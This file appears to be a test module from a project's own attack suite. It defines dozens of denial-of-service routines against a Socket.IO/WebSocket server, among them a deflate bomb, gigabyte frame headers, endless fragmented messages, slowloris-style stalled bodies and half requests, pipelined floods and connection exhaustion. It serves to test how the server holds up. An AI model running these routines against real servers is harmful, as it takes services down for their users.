"""What a hostile peer does, each for some seconds: ``python -m tests.attacks.attackers NAME URL SECONDS``.

The environment has ``TOKENS``, by user, good ones for the project ``alpha``. Prints as JSON what it saw.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable
from typing import Any

from tests.attacks.raw import BINARY, CONTINUATION, PING, TEXT, Polling, Raw, Refused, frame, handshake, http
from tests.attacks.senders import BYTES, CHUNKED, ENDLESS_BODIES, HEAD, LONG_BODY
from tests.attacks.senders import CHUNK as ONE_CHUNK

CHUNK = 32 * 1024

CLOSE_AFTER = "Connection: close\r\n"

#: Beginnings of requests, and what comes of them again and again.
ENDLESS: list[tuple[str, bytes]] = [
    *ENDLESS_BODIES.values(),
    *((f"{method} / HTTP/1.1\r\nHost: x\r\n{CHUNKED}", ONE_CHUNK) for method in ("POST", "GET")),
    *((f"{method} / HTTP/1.1\r\nHost: x\r\n{LONG_BODY}", BYTES) for method in ("POST", "GET")),
    (HEAD.format("POST", "SID") + "Content-Length: 3\r\n\r\n", BYTES),
    (HEAD.format("GET", "SID"), b"X-Header: y\r\n" * 100),
    (HEAD.format("GET", "SID") + "X: ", BYTES),
    ("GET /", BYTES),
    ("", BYTES),
    ("", b"\r\n" * 1000),
]
GONE = (OSError, Refused)


class Attack:
    """How an attack goes.

    Args:
        url: The server.
        seconds: How long it lasts.
        tokens: Good tokens, by user.

    Attributes:
        seen: What the attacker saw, counted.
    """

    def __init__(self, url: str, seconds: float, tokens: dict[str, str]) -> None:
        self.url = url
        self.tokens = tokens
        self.seen: Counter[str] = Counter()
        self._end = time.monotonic() + seconds

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self._end

    def repeat(self, attempt: Callable[[Attack], None]) -> None:
        """Try again and again, each time on a new connection."""
        while self.goes_on:
            try:
                attempt(self)
                self.seen["ended"] += 1
            except Refused as error:
                self.seen[f"refused: {str(error)[:60]}"] += 1
                time.sleep(0.02)
            except TimeoutError:
                self.seen["stalled"] += 1
            except OSError:
                self.seen["cut"] += 1
                time.sleep(0.01)

    def opened(self, **options: Any) -> Raw:
        self.seen["sockets"] += 1
        return Raw(self.url, **options)

    def entered(self, user: str = "ada", **options: Any) -> Raw:
        return self.opened(**options).enter(self.tokens[user])

    def poller(self) -> Polling:
        """Begin a polling session with a token."""
        session = Polling(self.url)
        self.seen["sessions"] += 1
        session.post("40" + json.dumps({"token": self.tokens["ada"]}))
        return session

    def sent(self, connection: Raw, data: bytes) -> None:
        connection.write(data)
        self.seen["bytes"] += len(data)


def endless_message(attack: Attack) -> None:
    """One message in fragments that does not end."""
    connection = attack.opened()
    attack.sent(connection, frame(TEXT, b"4", fin=False))
    while attack.goes_on:
        attack.sent(connection, frame(CONTINUATION, b"x" * CHUNK, fin=False))


def endless_frame(attack: Attack) -> None:
    """One frame of a gigabyte."""
    connection = attack.opened()
    head = frame(TEXT, b"")[:1] + bytes([0x80 | 127]) + (1 << 30).to_bytes(8, "big") + bytes(4)
    attack.sent(connection, head)
    while attack.goes_on:
        attack.sent(connection, b"4" * CHUNK)


def empty_fragments(attack: Attack) -> None:
    """Fragments without any data."""
    connection = attack.opened()
    attack.sent(connection, frame(TEXT, b"4", fin=False))
    while attack.goes_on:
        attack.sent(connection, frame(CONTINUATION, b"", fin=False) * 2000)


def pings(attack: Attack) -> None:
    """Pings of WebSocket, whose answers are not read."""
    connection = attack.opened()
    while attack.goes_on:
        attack.sent(connection, frame(PING, b"p" * 125) * 200)


def deflate_bomb(attack: Attack) -> None:
    """A megabyte that inflates to a gigabyte."""
    connection = attack.opened(deflate=True)
    if not connection.deflates:
        attack.seen["no deflate"] += 1
        time.sleep(0.05)
    attack.sent(connection, connection.bomb(1 << 29))
    connection.is_closed(1)


def endless_body(attack: Attack) -> None:
    """A POST whose body does not end."""
    sid = handshake(attack.url)
    head = (
        f"POST /socket.io/?EIO=4&transport=polling&sid={sid} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    with http(attack.url, head.encode()) as connection:
        while attack.goes_on:
            connection.sendall(b"%x\r\n%s\r\n" % (CHUNK, b"4" * CHUNK))
            attack.seen["bytes"] += CHUNK


def endless_requests(attack: Attack) -> None:
    """Requests of other kinds that do not end, one after the other: refused, on other paths, with long heads."""
    sid = handshake(attack.url) if attack.seen["requests"] % 2 else "nobody"
    begin, more = ENDLESS[attack.seen["requests"] % len(ENDLESS)]
    attack.seen["requests"] += 1
    end = time.monotonic() + 0.3
    with http(attack.url, begin.replace("SID", sid).encode()) as connection:
        while attack.goes_on and time.monotonic() < end:
            connection.sendall(more)
            attack.seen["bytes"] += len(more)


def pipelined(attack: Attack) -> None:
    """Requests upon requests on one connection, whose answers are read."""
    request = HEAD.format("OPTIONS", "nobody").encode() + b"\r\n"
    with http(attack.url, request) as connection:
        threading.Thread(target=_read_all, args=(connection,), daemon=True).start()
        while attack.goes_on:
            connection.sendall(request * 100)
            attack.seen["requests"] += 100


def _read_all(connection: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while connection.recv(65536):
            pass


def stalled_bodies(attack: Attack) -> None:
    """Polling sessions with bodies of which the last byte does not come, and what is no body behind other requests."""
    held = []
    while attack.goes_on:
        with contextlib.suppress(*GONE):
            sid = handshake(attack.url)
            attack.seen["sessions"] += 1
            body = b"4" + b"x" * 65_000
            head = HEAD.format("POST", sid) + f"Content-Length: {len(body) + 1}\r\n\r\n"
            held += [_stalled(attack, head.encode() + body) for _ in range(2)]
            held.append(_stalled(attack, HEAD.format("GET", "nobody").encode() + b"\r\n" + b"x" * 2_000_000))
    for connection in held:
        connection.close()


def _stalled(attack: Attack, data: bytes) -> socket.socket:
    connection = http(attack.url, b"", timeout=0.2)
    with contextlib.suppress(OSError):
        connection.sendall(data)
        attack.seen["bytes"] += len(data)
    return connection


def kept_open(attack: Attack) -> None:
    """Requests after which the server closes the connection, and the client does not."""
    held = []
    while attack.goes_on:
        for head in (HEAD.format("GET", "nobody"), HEAD.format("POST", "nobody"), "GET / HTTP/1.1\r\n"):
            request = head.replace("HTTP/1.1", "HTTP/1.0") if attack.seen["requests"] % 2 else head + CLOSE_AFTER
            with contextlib.suppress(OSError):
                held.append(http(attack.url, f"{request}\r\n".encode()))
            attack.seen["requests"] += 1
        time.sleep(0.01)
        while len(held) > 1000:
            held.pop(0).close()


def handshakes(attack: Attack) -> None:
    """Polling sessions that are begun, and nothing else."""
    while attack.goes_on:
        handshake(attack.url)
        attack.seen["sessions"] += 1


def long_namespaces(attack: Attack) -> None:
    """CONNECT to namespaces of 900 kB, whose refusals are not read."""
    connection = attack.opened(receive_buffer=4096)
    while attack.goes_on:
        attack.sent(connection, frame(TEXT, b"40/" + b"n" * 900_000 + b","))


def many_namespaces(attack: Attack) -> None:
    """The same with short ones."""
    connection = attack.opened(receive_buffer=4096)
    while attack.goes_on:
        attack.sent(connection, b"".join(frame(TEXT, b"40/%d" % number + b"n" * 90 + b",") for number in range(200)))


def bad_tokens(attack: Attack) -> None:
    """Bad tokens, one each 30 ms."""
    connection = attack.opened()
    while attack.goes_on:
        attack.sent(connection, frame(TEXT, b'40{"token":"bad"}'))
        time.sleep(0.03)


def closed_and_unread(attack: Attack) -> None:
    """Close Engine.IO's session, and go on."""
    connection = attack.opened(receive_buffer=4096)
    attack.sent(connection, frame(TEXT, b"1"))
    while attack.goes_on:
        attack.sent(connection, frame(TEXT, b"40/" + b"n" * 9000 + b","))


def attachments(attack: Attack) -> None:
    """Thousands of places for one attachment of a megabyte."""
    connection = attack.entered()
    places = [{"_placeholder": True, "num": 0}] * 4000
    head = ("451-" + json.dumps(["subscribe_project", {"x": places}])).encode()
    while attack.goes_on:
        attack.sent(connection, frame(TEXT, head) + frame(BINARY, bytes(900_000)))


def many_attachments(attack: Attack) -> None:
    """Attachments of an event that waits for a billion of them."""
    connection = attack.entered()
    attack.sent(connection, frame(TEXT, b'4599999999-["subscribe_project",{}]'))
    while attack.goes_on:
        attack.sent(connection, frame(BINARY, bytes(900_000)))


def unfinished_messages(attack: Attack) -> None:
    """A hundred sockets with a token, each with a message of nearly a megabyte that does not end."""
    held = []
    while attack.goes_on:
        with contextlib.suppress(*GONE):
            held.append(attack.entered())
            attack.sent(held[-1], frame(TEXT, b"4" + b"x" * 900_000, fin=False))


def idle_sockets(attack: Attack) -> None:
    """Sockets that say nothing."""
    held = []
    while attack.goes_on:
        with contextlib.suppress(*GONE):
            held.append(attack.opened())
        time.sleep(0.002)


def silent_sockets(attack: Attack) -> None:
    """Connections on which no request comes."""
    _hold(attack, b"")


def half_requests(attack: Attack) -> None:
    """Connections on which half of a request comes."""
    _hold(attack, b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost:")


def _hold(attack: Attack, beginning: bytes) -> None:
    held = []
    while attack.goes_on:
        with contextlib.suppress(*GONE):
            held.append(http(attack.url, beginning))
            attack.seen["sockets"] += 1
        time.sleep(0.002)


def brief_sockets(attack: Attack) -> None:
    """WebSockets that are closed as soon as they are open."""
    while attack.goes_on:
        attack.opened().close()


def polling_sessions(attack: Attack) -> None:
    """Polling sessions, each with requests that wait."""
    held = []
    while attack.goes_on:
        with contextlib.suppress(*GONE):
            sid = handshake(attack.url)
            attack.seen["sessions"] += 1
            request = f"GET /socket.io/?EIO=4&transport=polling&sid={sid} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
            held += [http(attack.url, request) for _ in range(5)]
    for connection in held:
        connection.close()


def cancels(attack: Attack) -> None:
    """200 cancellations at once, again and again."""
    connection = attack.entered(timeout=30)
    while attack.goes_on:
        for number in range(200):
            connection.text(f"42{number}" + json.dumps(["cancel_job", {"job_id": f"job-{number}"}]))
        for _ in range(200):
            attack.seen[_answer(connection.wait_for("43"))] += 1
            if not attack.goes_on:
                return


def new_epochs(attack: Attack) -> None:
    """Subscribe with an epoch that nobody has seen, 200 times a second."""
    connection = attack.entered(timeout=30)
    reader = threading.Thread(target=_count_answers, args=(attack, connection), daemon=True)
    reader.start()
    number = 0
    while attack.goes_on:
        number += 1
        data = {"project_id": "alpha", "since": {"epoch": f"epoch-{number}", "offset": number}}
        connection.text(f"42{number}" + json.dumps(["subscribe_project", data]))
        time.sleep(0.005)


def _count_answers(attack: Attack, connection: Raw) -> None:
    with contextlib.suppress(OSError):
        while True:
            attack.seen[_answer(connection.wait_for("43"))] += 1


def unread_results(attack: Attack) -> None:
    """150 requests for a long result, whose answers are not read."""
    connection = attack.entered(receive_buffer=4096, timeout=30)
    for number in range(150):
        connection.text(f"42{number}" + json.dumps(["get_result", {"job_id": "long"}]))
    while attack.goes_on:
        time.sleep(0.1)


def member_sockets(attack: Attack) -> None:
    """Sockets with a token that ask for nothing."""
    held = []
    while attack.goes_on:
        with contextlib.suppress(*GONE):
            held.append(attack.entered())


def member_polls(attack: Attack) -> None:
    """Polling sessions with a token, each with two requests that wait, and two whose bodies do not come."""
    held = []
    while attack.goes_on:
        with contextlib.suppress(*GONE):
            session = attack.poller()
            held += [session.get() for _ in range(2)] + [session.begin_post(50_000) for _ in range(2)]
    for connection in held:
        connection.close()


def upgrades(attack: Attack) -> None:
    """WebSockets of one polling session, none of which goes on with the upgrade."""
    held, sid = [], handshake(attack.url)
    attack.seen["sessions"] += 1
    while attack.goes_on:
        held.append(attack.opened(query=f"&sid={sid}"))


def bad_connects(attack: Attack) -> None:
    """Connect with a bad token, and again on a new socket."""
    while attack.goes_on:
        connection = attack.opened()
        connection.wait_for("0")
        for _ in range(8):
            connection.text('40{"token":"bad"}')
        connection.close()


def waiting_requests(attack: Attack) -> None:
    """Requests that take time, as long as may be, on many sockets; no answer is read."""
    padding, held = "x" * 15_000, []
    while attack.goes_on:
        with contextlib.suppress(*GONE):
            connection = attack.entered(receive_buffer=4096, timeout=1)
            held.append(connection)
            for number in range(200):
                request = {"job_id": f"job-{number}", "padding": padding}
                attack.sent(connection, frame(TEXT, f"42{number}{json.dumps(['cancel_job', request])}".encode()))


def unread_refusals(attack: Attack) -> None:
    """Requests that are refused at once, and of which the refusals are not read."""
    connection = attack.entered(receive_buffer=4096)
    number = 0
    while attack.goes_on:
        number += 1
        attack.sent(connection, frame(TEXT, f'42{number}["subscribe_project",{{"project_id":""}}]'.encode()))
        time.sleep(0.004)


def unread_polls(attack: Attack) -> None:
    """The same in a polling session that never polls."""
    session = attack.poller()
    while attack.goes_on:
        attack.seen[session.post('421["subscribe_project",{"project_id":""}]').split(b"\r", 1)[0].decode()] += 1


def quick_polls(attack: Attack) -> None:
    """Polling sessions of one user that ask, and fetch the answers, as quickly as they can."""
    session = attack.poller()
    while attack.goes_on:
        session.post('421["subscribe_project",{"project_id":"alpha"}]')
        with session.get() as connection:
            connection.recv(4096)
        attack.seen["polls"] += 1


def packets(attack: Attack) -> None:
    """As many packets as a socket with a token takes."""
    connection = attack.entered()
    while attack.goes_on:
        attack.sent(connection, frame(TEXT, b"3") * 500)


def unknown_events(attack: Attack) -> None:
    """Events that nobody handles, just below what is allowed."""
    connection = attack.entered(receive_buffer=4096)
    while attack.goes_on:
        attack.sent(connection, frame(TEXT, b'421["nothing",{}]') * 10)
        time.sleep(0.15)


def subscriptions(attack: Attack) -> None:
    """Subscribe as often as is allowed, on many sockets of one user."""
    connection = attack.entered(receive_buffer=None, timeout=30)
    threading.Thread(target=_count_answers, args=(attack, connection), daemon=True).start()
    while attack.goes_on:
        connection.text('421["subscribe_project",{"project_id":"alpha"}]')
        time.sleep(0.006)


def many_users(attack: Attack) -> None:
    """Cancel jobs and ask for results as fifty users."""
    connection = attack.entered(f"user-{attack.seen['sockets'] % 50}", timeout=30)
    number = 0
    while attack.goes_on:
        for event, name in (("cancel_job", f"job-{number % 200}"), ("get_result", "long")):
            number += 1
            connection.text(f"42{number}" + json.dumps([event, {"job_id": name}]))
        connection.wait_for(f"43{number}")


def _answer(message: str) -> str:
    for code in ("too_many_requests", "unavailable", "forbidden", "too_large", "bad_request"):
        if code in message:
            return code
    return "ok" if '"ok":true' in message else message[:60]


#: On how many connections at once an attack goes on, if not on four.
CONNECTIONS = dict.fromkeys(("cancels", "new_epochs", "unread_results"), 1)
CONNECTIONS |= {"subscriptions": 20, "many_users": 50, "quick_polls": 20}

#: By name: what is done.
ATTACKS: dict[str, Callable[[Attack], None]] = {
    attempt.__name__: attempt
    for attempt in (
        *(endless_message, endless_frame, empty_fragments, pings, deflate_bomb, endless_body),
        *(endless_requests, pipelined, stalled_bodies, kept_open, handshakes),
        *(unfinished_messages, long_namespaces, many_namespaces, bad_tokens, bad_connects, closed_and_unread),
        *(attachments, many_attachments, packets, unknown_events),
        *(
            idle_sockets,
            silent_sockets,
            half_requests,
            brief_sockets,
            polling_sessions,
            upgrades,
            member_sockets,
            member_polls,
        ),
        *(cancels, subscriptions, many_users, new_epochs, waiting_requests),
        *(unread_results, unread_refusals, unread_polls, quick_polls),
    )
}


#: Those that leave something behind, which could grow for as long as they go on.
GROWING = [
    "idle_sockets",
    "silent_sockets",
    "half_requests",
    "member_sockets",
    "unfinished_messages",
    "polling_sessions",
    "waiting_requests",
]


def main() -> None:
    name, url, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    attempt, connections = ATTACKS[name], CONNECTIONS.get(name, 4)
    attack = Attack(url, seconds, json.loads(os.environ["TOKENS"]))
    threads = [threading.Thread(target=attack.repeat, args=[attempt], daemon=True) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(seconds + 5)
    print(json.dumps(attack.seen), flush=True)
    os._exit(0)  # also from connections that still wait


if __name__ == "__main__":
    main()
